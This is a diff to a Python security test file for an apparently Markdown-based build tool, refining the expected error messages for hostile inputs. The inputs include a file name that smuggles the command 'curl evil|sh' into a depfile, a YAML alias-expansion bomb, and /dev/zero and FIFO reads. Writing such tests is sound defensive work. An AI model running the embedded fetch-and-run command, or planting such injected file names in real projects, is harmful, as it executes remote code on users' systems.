@@ -127,7 +127,7 @@ class Untrusted(unittest.TestCase):
     def test_01_depfile_injection(self):
         self.write(self.proj, 'a\n\tcurl evil|sh\nb.png', png(4, 4))
         self.brief('![x](a%0A%09curl%20evil%7Csh%0Ab.png)\n')
-        self.attack(['in.md', '--depfile', 'out.d'], 1, r'line break')
+        self.attack(['in.md', '--depfile', 'out.d'], 1, r'line break', ('in.md', 5, 1))
         self.assertFalse(os.path.exists(os.path.join(self.proj, 'out.d')))
 
     def test_01_depfile_colon(self):
@@ -216,7 +216,8 @@ class Untrusted(unittest.TestCase):
             lines.append(f'a{i}: &a{i} [' + ', '.join([f'*a{i - 1}'] * 10) + ']')
         lines.append('keywords: *a9')
         self.brief('text\n', '\n'.join(lines) + '\n')
-        self.attack(['in.md'], 1, r'alias')
+        # At the alias whose expansion passes the cap (a5's fifth *a4).
+        self.attack(['in.md'], 1, r'aliases expand to more than', ('in.md', 7, 45))
 
     # 6. A large minified bibliography, in time linear in its size.
     def test_06_csl_json(self):
@@ -230,7 +231,8 @@ class Untrusted(unittest.TestCase):
     # 7. Unbounded reads and hangs.
     def test_07_dev_zero_input(self):
         os.symlink('/dev/zero', os.path.join(self.proj, 'zero.md'))
-        self.attack(['zero.md', '--max-input-mb', '1'], 1, r'limit')
+        self.attack(['zero.md', '--max-input-mb', '1'], 1,
+                    r'zero\.md: error: input is more than 1 MB; the limit is 1 MB')
 
     def test_07_fifo_figure(self):
         os.mkfifo(os.path.join(self.proj, 'pipe.png'))
